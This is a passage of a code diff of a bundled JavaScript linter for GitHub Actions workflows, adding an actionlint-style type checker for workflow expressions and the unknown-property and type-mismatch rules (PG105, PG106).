+    if (op === lexer/* TokenType */.ks.EQUAL_EQUAL || op === lexer/* TokenType */.ks.BANG_EQUAL) {
+        switch (l.kind) {
+            case 'any':
+            case 'null':
+                return true;
+            case 'number':
+            case 'bool':
+            case 'string':
+                return !composite(r);
+            case 'object':
+                return r.kind === 'object' || r.kind === 'null' || r.kind === 'any';
+            case 'array':
+                return r.kind === 'array' ? comparable(op, l.elem, r.elem) : r.kind === 'null' || r.kind === 'any';
+        }
+    }
+    if (l.kind === 'any' || l.kind === 'number' || l.kind === 'string')
+        return !(r.kind === 'null' || r.kind === 'bool' || composite(r));
+    return false;
+}
+/** Types `site` in `scope`. An expression that does not parse has type `any` and no problems (PG102 says why). */
+function checkExpression(site, scope) {
+    const tree = parseLenient(site.text);
+    if (!tree)
+        return { type: ANY, problems: [] };
+    return new Checker(site, scope).run(tree);
+}
+/** The type of an expression in a scope, for rules that need to know it. */
+function typeOf(site, scope) {
+    return checkExpression(site, scope).type;
+}
+class Checker {
+    site;
+    scope;
+    problems = [];
+    constructor(site, scope) {
+        this.site = site;
+        this.scope = scope;
+    }
+    run(tree) {
+        const type = this.check(tree, 0);
+        return { type, problems: this.problems };
+    }
+    pos(p) {
+        const at = this.site.at;
+        return p.line === 0 ? { line: at.line, column: at.column + p.column } : { line: at.line + p.line, column: p.column + 1 };
+    }
+    /** The first token of a node, where actionlint reports it. */
+    start(e) {
+        const token = (t) => this.pos(t.range.start);
+        if (e instanceof ast/* Literal */.uS)
+            return token(e.token);
+        if (e instanceof ast/* ContextAccess */.QC)
+            return token(e.name);
+        if (e instanceof ast/* FunctionCall */.R6)
+            return token(e.functionName);
+        if (e instanceof ast/* Unary */._c)
+            return token(e.operator);
+        if (e instanceof ast/* Binary */.yI)
+            return this.start(e.left);
+        if (e instanceof ast/* Logical */.oD)
+            return this.start(e.args[0]);
+        if (e instanceof ast/* Grouping */.aU)
+            return this.start(e.group);
+        if (e instanceof ast/* IndexAccess */.p_)
+            return this.start(e.expr);
+        return this.site.at;
+    }
+    report(kind, e, message, path, name) {
+        this.problems.push({ kind, message, at: 'line' in e ? e : this.start(e), path, name });
+    }
+    check(e, depth) {
+        if (depth > 100)
+            return ANY;
+        if (e instanceof ast/* Literal */.uS) {
+            switch (e.literal.kind) {
+                case expressiondata/* Kind */.b.Null:
+                    return NULL;
+                case expressiondata/* Kind */.b.Boolean:
+                    return BOOL;
+                case expressiondata/* Kind */.b.Number:
+                    return NUMBER;
+                default:
+                    return STRING;
             }
         }
+        if (e instanceof ast/* ContextAccess */.QC)
+            return this.scope.get(e.name.lexeme.toLowerCase()) ?? ANY;
+        if (e instanceof ast/* Grouping */.aU)
+            return this.check(e.group, depth + 1);
+        if (e instanceof ast/* Unary */._c) {
+            this.check(e.expr, depth + 1);
+            return BOOL;
+        }
+        if (e instanceof ast/* Logical */.oD)
+            return e.args.map((a) => this.check(a, depth + 1)).reduce((a, b) => merge(a, b));
+        if (e instanceof ast/* Binary */.yI) {
+            const l = this.check(e.left, depth + 1);
+            const r = this.check(e.right, depth + 1);
+            const op = COMPARISONS.get(e.operator.type);
+            if (op && !comparable(e.operator.type, l, r)) {
+                const outcome = op === '==' ? 'it is always false' : op === '!=' ? 'it is always true' : 'only numbers and strings have an order';
+                this.report('type', e, `"${typeName(l)}" value cannot be compared to "${typeName(r)}" value with "${op}" operator: ${outcome}`);
+            }
+            return BOOL;
+        }
+        if (e instanceof ast/* IndexAccess */.p_)
+            return this.index(e, depth);
+        if (e instanceof ast/* FunctionCall */.R6)
+            return this.call(e, depth);
+        return ANY;
+    }
+    /** `a.b`, `a['b']`, `a[0]` and `a.*`. */
+    index(e, depth) {
+        const receiver = this.check(e.expr, depth + 1);
+        const index = e.index;
+        if (index.constructor.name === 'Star')
+            return this.filter(e, receiver);
+        if (index instanceof ast/* Literal */.uS && index.token.type === lexer/* TokenType */.ks.IDENTIFIER)
+            return this.property(e, receiver, index.token.lexeme.toLowerCase());
+        const idx = this.check(index, depth + 1);
+        switch (receiver.kind) {
+            case 'any':
+                return ANY;
+            case 'array':
+                if (idx.kind === 'any' || idx.kind === 'number')
+                    return receiver.elem;
+                this.report('type', index, `index access of array must be type of number but got "${typeName(idx)}"`);
+                return ANY;
+            case 'object':
+                if (idx.kind === 'any')
+                    return ANY;
+                if (idx.kind === 'string') {
+                    if (index instanceof ast/* Literal */.uS) {
+                        const name = index.literal.coerceString().toLowerCase();
+                        const prop = receiver.props.get(name);
+                        if (prop)
+                            return prop;
+                        if (!receiver.mapped)
+                            this.unknownProperty(e, receiver, name);
+                    }
+                    return receiver.mapped ?? ANY;
+                }
+                this.report('type', index, `property access of object must be type of string but got "${typeName(idx)}"`);
+                return ANY;
+            default:
+                this.report('type', e, `index access operand must be type of object or array but got "${typeName(receiver)}"`);
+                return ANY;
+        }
+    }
+    property(e, receiver, name) {
+        switch (receiver.kind) {
+            case 'any':
+                return ANY;
+            case 'object': {
+                const t = receiver.props.get(name);
+                if (t)
+                    return t;
+                if (receiver.mapped) {
+                    if (e.expr instanceof ast/* ContextAccess */.QC && e.expr.name.lexeme.toLowerCase() === 'vars')
+                        this.variableName(e, name);
+                    return receiver.mapped;
+                }
+                this.unknownProperty(e, receiver, name);
+                return ANY;
+            }
+            case 'array': {
+                if (!receiver.deref) {
+                    this.report('type', e, `receiver of object dereference "${name}" must be type of object but got "${typeName(receiver)}"`);
+                    return ANY;
+                }
+                const et = receiver.elem;
+                if (et.kind === 'any')
+                    return receiver;
+                if (et.kind === 'object') {
+                    const t = et.props.get(name) ?? et.mapped;
+                    if (!t)
+                        this.unknownProperty(e, et, name, ' as element of filtered array');
+                    return arrayOf(t ?? ANY, true);
+                }
+                this.report('type', e, `property filtered by "${name}" at object filtering must be type of object but got "${typeName(et)}"`);
+                return ANY;
+            }
+            default:
+                this.report('type', e, `receiver of object dereference "${name}" must be type of object but got "${typeName(receiver)}"`);
+                return ANY;
+        }
+    }
+    unknownProperty(e, receiver, name, where = '') {
+        const path = chainPath(e.expr);
+        const hint = didYouMean(name, receiver.props.keys());
+        this.report('property', e, `property "${name}" is not defined in object type ${typeName(receiver, 0, MESSAGE_PROPS)}${where}${hint}`, path, name);
+    }
+    /** `vars.<name>`: a configuration variable can have no other name (actionlint's checkConfigVariables). */
+    variableName(e, name) {
+        const see = 'see https://docs.github.com/en/actions/learn-github-actions/variables#naming-conventions-for-configuration-variables';
+        if (name.startsWith('github_'))
+            this.report('property', e, `configuration variable name "${name}" must not start with the GITHUB_ prefix (case insensitive); ${see}`, ['vars'], name);
+        else if (/[^0-9a-z_]/.test(name))
+            this.report('property', e, `configuration variable name "${name}" can only contain letters, digits and '_'; ${see}`, ['vars'], name);
+    }
+    /** `.*` */
+    filter(e, receiver) {
+        switch (receiver.kind) {
+            case 'any':
+                return arrayOf(ANY, true);
+            case 'array':
+                return { ...receiver, deref: true };
+            case 'object':
+                if (receiver.mapped) {
+                    if (receiver.mapped.kind === 'any')
+                        return arrayOf(ANY, true);
+                    if (receiver.mapped.kind === 'object')
+                        return arrayOf(receiver.mapped, true);
+                    this.report('type', e, `elements of object at receiver of object filtering \`.*\` must be type of object but got "${typeName(receiver.mapped)}"`);
+                    return ANY;
+                }
+                if (![...receiver.props.values()].some((t) => t.kind === 'object')) {
+                    this.report('type', e, `object type "${typeName(receiver)}" cannot be filtered by object filtering \`.*\` since it has no object element`);
+                    return ANY;
+                }
+                return arrayOf(ANY, true);
+            default:
+                this.report('type', e, `receiver of object filtering \`.*\` must be type of array or object but got "${typeName(receiver)}"`);
+                return ANY;
+        }
+    }
+    call(e, depth) {
+        const name = e.functionName.lexeme.toLowerCase();
+        const args = e.args.map((a) => this.check(a, depth + 1));
+        const sigs = FUNCTIONS.get(name);
+        // An unknown function, or a wrong number of arguments: the parser says so (PG104, PG102).
+        if (!sigs)
+            return ANY;
+        let mismatch;
+        for (const s of sigs) {
+            const n = s.params.length;
+            if (s.variadic ? args.length < n : args.length !== n)
+                continue;
+            const bad = args.findIndex((a, i) => !assignable(s.params[Math.min(i, n - 1)], a));
+            if (bad < 0)
+                return this.special(e, name, s);
+            const p = s.params[Math.min(bad, n - 1)];
+            mismatch ??= {
+                kind: 'type',
+                at: this.start(e.args[bad]),
+                message: `${ordinal(bad + 1)} argument of function call is not assignable: "${typeName(args[bad])}" cannot be assigned to "${typeName(p)}"; called function type is "${signatureText(s)}"`
+            };
+        }
+        if (mismatch)
+            this.problems.push(mismatch);
+        return ANY;
+    }
+    /** The checks of format(), fromJSON() and case() beyond their types. */
+    special(e, name, s) {
+        const first = e.args[0];
+        const literal = first instanceof ast/* Literal */.uS && first.literal.kind === expressiondata/* Kind */.b.String ? String(first.literal.coerceString()) : undefined;
+        if (name === 'format' && literal !== undefined) {
+            const holders = formatPlaceholders(literal);
+            const given = e.args.length - 1;
+            for (let i = 0; i < given; i++) {
+                if (!holders.delete(i))
+                    this.report('call', e, `format string "${literal}" does not contain placeholder {${i}}; remove the argument, which is unused`);
+            }
+            for (const i of holders)
+                this.report('call', e, `format string "${literal}" contains placeholder {${i}} but only ${given} arguments are given to format`);
+        }
+        else if (name === 'fromjson' && literal !== undefined) {
+            try {
+                return typeOfJSON(JSON.parse(literal));
+            }
+            catch (err) {
+                this.report('call', first, `broken JSON string is passed to fromJSON(): ${err.message}`);
+            }
+        }
+        return s.ret;
+    }
+}
+/** `matrix.os` → ["matrix", "os"]; undefined when the receiver is not a plain chain of names. */
+function chainPath(e) {
+    const path = [];
+    let cur = e;
+    for (let i = 0; i < 64; i++) {
+        if (cur instanceof ast/* ContextAccess */.QC)
+            return [cur.name.lexeme.toLowerCase(), ...path];
+        if (!(cur instanceof ast/* IndexAccess */.p_) || !(cur.index instanceof ast/* Literal */.uS))
+            return undefined;
+        path.unshift(String(cur.index.token.type === lexer/* TokenType */.ks.IDENTIFIER ? cur.index.token.lexeme : cur.index.literal.coerceString()).toLowerCase());
+        cur = cur.expr;
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/typed-expressions.js
+/**
+ * The contexts of a workflow typed from its declarations, as actionlint's rule_expression.go does:
+ * `matrix` from `strategy.matrix` (rows, `include`; an expression is unknown), `inputs` from
+ * `workflow_call`/`workflow_dispatch`, `secrets` of a reusable workflow, `needs` from the jobs
+ * needed and their outputs, `steps` from the steps before (outputs of local actions known), and
+ * `github.event.inputs`. {@link analyseWorkflow} types every `${{ }}` of a workflow once a run
+ * and keeps the problems, which the rules PG105, PG106 and PG108 report by kind.
+ */
+
+
+
+/** Keys whose value is evaluated as a string: an object, array or null there is printed as `Object`/`Array`/empty. */
+const TEMPLATE_KEYS = new Set(['name', 'run-name', 'env', 'run', 'with', 'working-directory', 'shell', 'concurrency', 'environment', 'outputs', 'defaults']);
+/** Of those, the keys that hold a mapping, which one expression may give whole. */
+const MAPPING_KEYS = new Set(['env', 'with', 'concurrency', 'environment', 'outputs', 'defaults']);
+const GITHUB_PROPS = Object.fromEntries([
+    'action', 'action_path', 'action_ref', 'action_repository', 'action_status', 'actor', 'actor_id', 'api_url', 'base_ref', 'env', 'event_name',
+    'event_path', 'graphql_url', 'head_ref', 'job', 'output', 'path', 'ref', 'ref_name', 'ref_type', 'repository', 'repository_id', 'repository_owner',
+    'repository_owner_id', 'repository_visibility', 'repositoryurl', 'run_attempt', 'run_id', 'run_number', 'secret_source', 'server_url', 'sha',
+    'state', 'step_summary', 'token', 'triggering_actor', 'workflow', 'workflow_ref', 'workflow_sha', 'workspace'
+].map((n) => [n, STRING]));
+/** The contexts every expression sees, before the workflow's declarations (actionlint's BuiltinGlobalVariableTypes). */
+function builtinScope() {
+    return new Map([
+        ['github', strictObject({ ...GITHUB_PROPS, artifact_cache_size_limit: NUMBER, ref_protected: BOOL, retention_days: NUMBER, event: looseObject() })],
+        ['env', mapOf(STRING)],
+        [
+            'job',
+            strictObject({
+                check_run_id: NUMBER,
+                container: strictObject({ id: STRING, network: STRING }),
+                services: mapOf(strictObject({ id: STRING, network: STRING, ports: mapOf(STRING) })),
+                status: STRING
+            })
+        ],
+        ['steps', strictObject()],
+        ['runner', strictObject({ name: STRING, os: STRING, arch: STRING, temp: STRING, tool_cache: STRING, debug: STRING, environment: STRING })],
+        ['secrets', mapOf(STRING)],
+        ['strategy', looseObject({ 'fail-fast': BOOL, 'job-index': NUMBER, 'job-total': NUMBER, 'max-parallel': NUMBER })],
+        ['matrix', strictObject()],
+        ['needs', strictObject()],
+        ['inputs', strictObject()],
+        ['vars', mapOf(STRING)]
+    ]);
+}
+function mappingEntries(token) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return [];
+    const out = [];
+    for (const pair of token) {
+        const key = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : undefined;
+        // A YAML key such as `null:` may reach here without a string value.
+        out.push([typeof key === 'string' ? key : String(pair.key.toString?.() ?? key), pair.value]);
     }
     return out;
 }
-function required_checks_escape(text) {
-    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+function find(token, key) {
+    return mappingEntries(token).find(([k]) => k === key)?.[1];
 }
-/** The produced checks that give `name`. */
-function producersOf(name, produced) {
-    return produced.filter((p) => p.name === name || (p.pattern?.test(name) ?? false));
+/** TokenType.Null of the workflow parser's tokens. */
+const NULL_TOKEN = 7;
+const INPUT_TYPES = { boolean: BOOL, number: NUMBER, string: STRING, choice: STRING, environment: STRING };
+/** `inputs:` of a trigger typed by their `type:` (unknown types are `any`). */
+function inputsType(inputs) {
+    return strictObject(new Map(mappingEntries(inputs).map(([name, spec]) => [name.toLowerCase(), inputType(spec)])));
 }
-/** Where a finding about the whole set goes: the first workflow file (its `on:` pull request trigger or its top). */
-function firstWorkflow(project) {
-    for (const file of project.files) {
-        const model = file.model;
-        if (model?.kind !== 'workflow')
+function inputType(spec) {
+    const type = find(spec, 'type');
+    return (type && (0,dist/* isString */.Kg)(type) && INPUT_TYPES[type.value]) || ANY;
+}
+/** The scope of a workflow's expressions: inputs, secrets and github.event.inputs from its triggers. */
+function workflowScope(workflow) {
+    const scope = builtinScope();
+    const call = workflow.on.get('workflow_call');
+    const dispatch = workflow.on.get('workflow_dispatch');
+    let inputs;
+    if (call)
+        inputs = inputsType(find(call.value, 'inputs'));
+    if (dispatch) {
+        const typed = inputsType(find(dispatch.value, 'inputs'));
+        inputs = inputs && (inputs.props.size > 0 || inputs.mapped) ? merge(inputs, typed) : typed;
+        const github = scope.get('github');
+        const event = looseObject();
+        event.props.set('inputs', strictObject(new Map([...typed.props.keys()].map((k) => [k, STRING]))));
+        github.props.set('event', event);
+    }
+    if (inputs)
+        scope.set('inputs', inputs);
+    const secrets = call ? find(call.value, 'secrets') : undefined;
+    if (secrets && (0,dist/* isMapping */.pi)(secrets)) {
+        const props = new Map([
+            ['github_token', STRING],
+            ['actions_step_debug', STRING],
+            ['actions_runner_debug', STRING]
+        ]);
+        for (const [name] of mappingEntries(secrets))
+            props.set(name.toLowerCase(), STRING);
+        scope.set('secrets', strictObject(props));
+    }
+    return scope;
+}
+/** The outputs of a reusable workflow a job calls: known for a local one, else any name. */
+function calledOutputs(project, uses) {
+    const called = project.local(uses);
+    if (called?.kind !== 'workflow' || !called.workflowCall)
+        return mapOf(STRING);
+    return strictObject(new Map([...called.workflowCall.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
+}
+/** `needs` of a job: the jobs it needs directly, with their outputs and result. */
+function needsType(workflow, job, project) {
+    const props = new Map();
+    for (const need of job.needs) {
+        const id = need.value.toLowerCase();
+        const target = workflow.jobsByLowerId.get(id);
+        if (!target || target === job || props.has(id))
             continue;
-        const trigger = PR_TRIGGERS.map((t) => model.on.get(t)).find(Boolean);
-        return { workflow: model, node: trigger?.key ?? model.name ?? { at: { line: 1, column: 1 } } };
+        const outputs = target.uses ? calledOutputs(project, target.uses.value) : strictObject(new Map([...target.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
+        props.set(id, strictObject({ outputs, result: STRING }));
+    }
+    return strictObject(props);
+}
+/** The type of a matrix value as written in YAML (an expression is typed in the job's scope). */
+function valueType(token, scope, depth = 0) {
+    if (depth > 32)
+        return ANY;
+    if ((0,dist/* isBasicExpression */.hR)(token))
+        return token.originalExpressions?.length ? STRING : typeOf({ text: token.expression, at: { line: 1, column: 1 } }, scope);
+    if ((0,dist/* isMapping */.pi)(token))
+        return strictObject(new Map(mappingEntries(token).map(([k, v]) => [k.toLowerCase(), valueType(v, scope, depth + 1)])));
+    if ((0,dist/* isSequence */.wZ)(token)) {
+        let elem;
+        for (const item of token)
+            elem = elem ? merge(elem, valueType(item, scope, depth + 1)) : valueType(item, scope, depth + 1);
+        return arrayOf(elem ?? ANY);
+    }
+    if ((0,dist/* isBoolean */.Lm)(token))
+        return BOOL;
+    if ((0,dist/* isNumber */.Et)(token))
+        return NUMBER;
+    if ((0,dist/* isString */.Kg)(token)) {
+        if (token.value.includes('${{'))
+            return ANY;
+        const s = token.value.trim();
+        if (s === 'true' || s === 'false')
+            return BOOL;
+        if (s === 'null')
+            return NULL;
+        return s !== '' && Number.isFinite(Number(s)) ? NUMBER : STRING;
+    }
+    return token.templateTokenType === NULL_TOKEN ? NULL : ANY;
+}
+/** `matrix` of a job from `strategy.matrix` (actionlint's checkMatrix); a job without a matrix has `{}`. */
+function matrixType(job, scope) {
+    const matrix = find(job.strategy, 'matrix');
+    if (!matrix)
+        return strictObject();
+    if (!(0,dist/* isMapping */.pi)(matrix)) {
+        const t = (0,dist/* isBasicExpression */.hR)(matrix) ? valueType(matrix, scope) : ANY;
+        if (t.kind !== 'object')
+            return looseObject();
+        const props = new Map(t.props);
+        const include = props.get('include');
+        props.delete('include');
+        props.delete('exclude');
+        if (include?.kind === 'array' && include.elem.kind === 'object')
+            for (const [n, p] of include.elem.props)
+                props.set(n, props.has(n) ? merge(props.get(n), p) : p);
+        return { kind: 'object', props, mapped: t.mapped };
+    }
+    let o = strictObject();
+    let include;
+    for (const [key, value] of mappingEntries(matrix)) {
+        if (key === 'include')
+            include = value;
+        else if (key !== 'exclude') {
+            // A row is a list of values (or an expression giving one): the matrix value is one of them.
+            const t = valueType(value, scope);
+            o.props.set(key.toLowerCase(), t.kind === 'array' ? t.elem : ANY);
+        }
+    }
+    if (!include)
+        return o;
+    if (!(0,dist/* isSequence */.wZ)(include)) {
+        const t = valueType(include, scope);
+        if (t.kind === 'array') {
+            const merged = merge(o, t.elem);
+            if (merged.kind === 'object')
+                return merged;
+        }
+        return looseObject();
+    }
+    for (const combination of include) {
+        if (!(0,dist/* isMapping */.pi)(combination)) {
+            const merged = merge(o, valueType(combination, scope));
+            o = merged.kind === 'object' ? merged : { ...o, mapped: ANY };
+            continue;
+        }
+        for (const [key, value] of mappingEntries(combination)) {
+            const name = key.toLowerCase();
+            const t = valueType(value, scope);
+            o.props.set(name, o.props.has(name) ? merge(o.props.get(name), t) : t);
+        }
+    }
+    return o;
+}
+/** `steps.<id>.outputs` of a step: known for a local action, loose for github-script, else any name. */
+function stepOutputs(project, uses) {
+    if (!uses)
+        return mapOf(STRING);
+    if (uses.startsWith('./')) {
+        const action = project.local(uses);
+        if (action?.kind !== 'action')
+            return mapOf(STRING);
+        return strictObject(new Map([...action.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
+    }
+    if (uses.startsWith('actions/github-script@'))
+        return looseObject();
+    return mapOf(STRING);
+}
+/** Whether one expression gives the whole value (not text around `${{ }}`). */
+function wholeExpression(token) {
+    return token !== undefined && (0,dist/* isBasicExpression */.hR)(token) && !token.originalExpressions?.length;
+}
+/** Keys of a job that one expression may give whole, with the types it must have there (actionlint's checkObjectExpression…). */
+function wholeValues(job, scope, problems) {
+    const expect = (token, what, ok) => {
+        if (!wholeExpression(token))
+            return;
+        const [site] = expressionSites(token);
+        const t = site ? typeOf(site, scope) : ANY;
+        if (t.kind === 'any' || ok.includes(t.kind))
+            return;
+        problems.push({ kind: 'type', at: site.at, job, message: `type of expression at "${what}" must be ${ok.join(' or ')} but found type ${typeName(t)}` });
+    };
+    expect(job.runsOn, 'runs-on', ['string', 'array']);
+    expect(job.services, 'services', ['object']);
+    expect(find(job.container, 'credentials'), 'credentials', ['object']);
+    for (const [, service] of mappingEntries(job.services))
+        expect(find(service, 'credentials'), 'credentials', ['object']);
+}
+/** The scope of a job before its first step: `needs`, `matrix`, and `steps` still empty. */
+function jobScope(base, workflow, job, project) {
+    const scope = new Map(base);
+    scope.set('needs', needsType(workflow, job, project));
+    scope.set('matrix', matrixType(job, scope));
+    scope.set('steps', strictObject());
+    return scope;
+}
+/** Adds a step that has run to `steps` of a job's scope. */
+function addStep(scope, step, project) {
+    const steps = scope.get('steps');
+    if (!step.id)
+        return;
+    if (step.id.value.includes('${{'))
+        steps.mapped = ANY;
+    steps.props.set(step.id.value.toLowerCase(), strictObject({ outputs: stepOutputs(project, step.uses?.value), conclusion: STRING, outcome: STRING }));
+}
+/**
+ * The type of every context where an expression of `workflow` is evaluated: at workflow level
+ * (no job), in a job's keys (`beforeStep` 0), or in its step of index `beforeStep` (the steps
+ * before it have run). For rules that ask "what is the type of this expression here" with
+ * {@link typeOf}.
+ */
+function scopeOf(workflow, project, job, beforeStep = 0) {
+    const base = workflowScope(workflow);
+    if (!job)
+        return base;
+    const scope = jobScope(base, workflow, job, project);
+    for (const step of job.steps.slice(0, beforeStep))
+        addStep(scope, step, project);
+    return scope;
+}
+/**
+ * `with:` of a call of a local reusable workflow against the types of its `on.workflow_call.inputs`
+ * (actionlint's checkWorkflowCall): a literal is typed as YAML reads it, one whole expression by its
+ * type, text around `${{ }}` is a string.
+ */
+function callInputs(workflow, job, scope, project, problems) {
+    const uses = job.uses.value;
+    const called = project.local(uses);
+    if (called?.kind !== 'workflow' || !called.workflowCall)
+        return;
+    const declared = new Map([...called.workflowCall.inputs].map(([name, entry]) => [name.toLowerCase(), { name, type: inputType(entry.value) }]));
+    for (const [name, entry] of job.with) {
+        const input = declared.get(name.toLowerCase());
+        if (!input || input.type.kind === 'any')
+            continue;
+        const value = entry.value;
+        let t;
+        if (wholeExpression(value))
+            t = typeOf(expressionSites(value)[0] ?? { text: 'null', at: entry.key.at }, scope);
+        else if ((0,dist/* isBasicExpression */.hR)(value))
+            t = STRING;
+        // The parser reads `null` and an empty value alike as ''; the text tells them apart.
+        else if ((0,dist/* isString */.Kg)(value) && value.value === '' && /^(null|Null|NULL|~)$/.test(textAt(workflow.file.text, value)))
+            t = NULL;
+        else
+            t = valueType(value, scope);
+        if (assignable(input.type, t))
+            continue;
+        const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : entry.key.at;
+        problems.push({ kind: 'type', at, job, message: `input "${input.name}" is typed as ${typeName(input.type)} by reusable workflow "${uses}": a ${typeName(t)} value cannot be assigned` });
+    }
+}
+/** The text of a one-line token in the file. */
+function textAt(text, token) {
+    const r = token.range;
+    if (!r || r.start.line !== r.end.line)
+        return '';
+    let start = 0;
+    for (let line = 1; line < r.start.line && start >= 0; line++)
+        start = text.indexOf('\n', start) + 1 || -1;
+    return start < 0 ? '' : text.slice(start + r.start.column - 1, start + r.end.column - 1);
+}
+/** Problems by workflow, for each run (a run has its own project: local files may differ). */
+const analysed = new WeakMap();
+/** Every type problem of a workflow, computed once a run (each rule of the family asks for its kind). */
+function analyseWorkflow(workflow, project) {
+    let byWorkflow = analysed.get(project);
+    if (!byWorkflow)
+        analysed.set(project, (byWorkflow = new WeakMap()));
+    let problems = byWorkflow.get(workflow);
+    if (!problems) {
+        problems = [];
+        try {
+            analyse(workflow, project, problems);
+        }
+        catch {
+            // A shape of file nothing here foresaw: the problems found so far, and no stack trace (the
+            // parser rules still say what is wrong with the file).
+        }
+        byWorkflow.set(workflow, problems);
+    }
+    return problems;
+}
+function analyse(workflow, project, problems) {
+    const base = workflowScope(workflow);
+    const checkSites = (sites, scope, template, job) => {
+        for (const site of sites) {
+            const typed = checkExpression(site, scope);
+            for (const p of typed.problems)
+                problems.push({ ...p, job });
+            const t = typed.type;
+            if (template && (t.kind === 'object' || t.kind === 'array' || t.kind === 'null')) {
+                problems.push({
+                    kind: 'type',
+                    at: site.at,
+                    job,
+                    message: `${t.kind === 'null' ? 'null' : `a value of type ${typeName(t)}`} is evaluated in \${{ }} where a string is expected: it prints as ${t.kind === 'null' ? 'an empty string' : t.kind === 'array' ? '"Array"' : '"Object"'}; use toJSON() or a property of it`
+                });
+            }
+        }
+    };
+    const keyed = (token, scope, job, skip = []) => {
+        for (const [key, value] of mappingEntries(token)) {
+            if (skip.includes(key))
+                continue;
+            // A whole mapping given by one expression (`env: ${{ fromJSON(…) }}`) is not printed.
+            const whole = wholeExpression(value) && MAPPING_KEYS.has(key);
+            checkSites(expressionSites(value, key === 'if'), scope, TEMPLATE_KEYS.has(key) && !whole, job);
+        }
+    };
+    // Workflow level.
+    keyed(workflow.root, base, undefined, ['on', 'jobs', 'name', 'permissions', 'defaults']); // run-name, env, concurrency
+    for (const job of workflow.jobs) {
+        const scope = jobScope(base, workflow, job, project);
+        keyed(job.token, scope, job, ['steps', 'outputs']);
+        wholeValues(job, scope, problems);
+        if (job.uses)
+            callInputs(workflow, job, scope, project, problems);
+        for (const step of job.steps) {
+            keyed(step.token, scope, job);
+            addStep(scope, step, project);
+        }
+        checkSites(job.outputExpressions, scope, true, job);
+    }
+    // on.workflow_call: input defaults, and outputs (where `jobs` is typed).
+    const call = workflow.on.get('workflow_call');
+    if (call) {
+        // A default sees the inputs declared before it (actionlint), and must fit its input's type.
+        const before = strictObject();
+        const scope = new Map(base).set('inputs', before);
+        for (const [name, spec] of mappingEntries(find(call.value, 'inputs'))) {
+            const sites = expressionSites(find(spec, 'default'));
+            checkSites(sites, scope, false);
+            const declared = inputType(spec);
+            const value = find(spec, 'default');
+            if (sites.length === 1 && value && (0,dist/* isBasicExpression */.hR)(value) && !value.originalExpressions?.length && (declared.kind === 'bool' || declared.kind === 'number')) {
+                const t = typeOf(sites[0], scope);
+                if (t.kind !== declared.kind && t.kind !== 'any') {
+                    problems.push({ kind: 'type', at: sites[0].at, message: `type of input "${name}" must be ${declared.kind} but found type ${typeName(t)}` });
+                }
+            }
+            before.props.set(name.toLowerCase(), declared);
+        }
+        const jobs = new Map();
+        for (const job of workflow.jobs) {
+            const outputs = job.uses ? looseObject() : strictObject(new Map([...job.outputs.keys()].map((k) => [k.toLowerCase(), STRING])));
+            jobs.set(job.id.value.toLowerCase(), strictObject({ outputs }));
+        }
+        const outputsScope = new Map(base).set('jobs', strictObject(jobs));
+        for (const [, spec] of mappingEntries(find(call.value, 'outputs')))
+            checkSites(expressionSites(find(spec, 'value')), outputsScope, true);
+    }
+}
+/** A rule that reports the problems of one kind, as they are. */
+function typeProblemRule(meta, kind) {
+    return {
+        ...meta,
+        create(context) {
+            return {
+                workflowPre(workflow) {
+                    for (const p of analyseWorkflow(workflow, context.project))
+                        if (p.kind === kind)
+                            context.report(workflow.file, p, p.message);
+                }
+            };
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-property.js
+
+/** Unknown step and job ids are PG112's and PG113's, which say more (later step, job not needed). */
+function reportedElsewhere(p) {
+    const path = p.path ?? [];
+    if (path.length === 1 && (path[0] === 'steps' || path[0] === 'needs'))
+        return true;
+    return path.length === 3 && path[0] === 'needs' && path[2] === 'outputs';
+}
+const unknown_property_rule = {
+    id: 'PG105',
+    name: 'unknown-property',
+    level: 'error',
+    description: 'A property that the context does not have: a matrix key the matrix does not define, `matrix.*` in a job without a matrix, an undeclared `inputs.*` or `secrets.*`, a misspelt `github.*` or `runner.*`, a `vars.*` name no variable can have.',
+    help: "Contexts are typed from what the workflow declares, as actionlint does: `matrix` from `strategy.matrix` (its rows and `include:`; a matrix made by an expression is not checked), `inputs` from `on.workflow_call.inputs` and `on.workflow_dispatch.inputs`, `secrets` from `on.workflow_call.secrets` when the workflow declares them, `steps.<id>.outputs` from a local action's `outputs:`, `needs.<id>` from the job's outputs, and `github`, `runner`, `job`, `strategy` from GitHub's documentation. A property they do not have evaluates to an empty string without any error: a misspelt name silently becomes ''. `env`, `github.event` and outputs of remote actions accept any name; `vars` any name a configuration variable can have (letters, digits and `_`, not starting with `GITHUB_`).",
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                for (const p of analyseWorkflow(workflow, context.project)) {
+                    if (p.kind !== 'property' || reportedElsewhere(p))
+                        continue;
+                    const path = p.path ?? [];
+                    if (path.length === 1 && path[0] === 'matrix' && p.job && !p.job.strategy) {
+                        context.report(workflow.file, p, `job "${p.job.id.value}" has no strategy.matrix, so matrix.${p.name} is always empty; add the matrix or remove the reference`);
+                        continue;
+                    }
+                    context.report(workflow.file, p, path.length ? `${path.join('.')}: ${p.message}` : p.message);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const unknown_property = (unknown_property_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/type-mismatch.js
+/** PG106 type-mismatch: comparisons that are always false, arguments of the wrong type, objects printed as strings. */
+
+/* harmony default export */ const type_mismatch = (typeProblemRule({
+    id: 'PG106',
+    name: 'type-mismatch',
+    level: 'error',
+    description: "A value of the wrong type: a comparison that is always false (`github.event == 'push'`), a function argument of the wrong type, a property of a string, an object or array in `${{ }}` where a string is expected, a `with:` value of the wrong type for a local reusable workflow.",
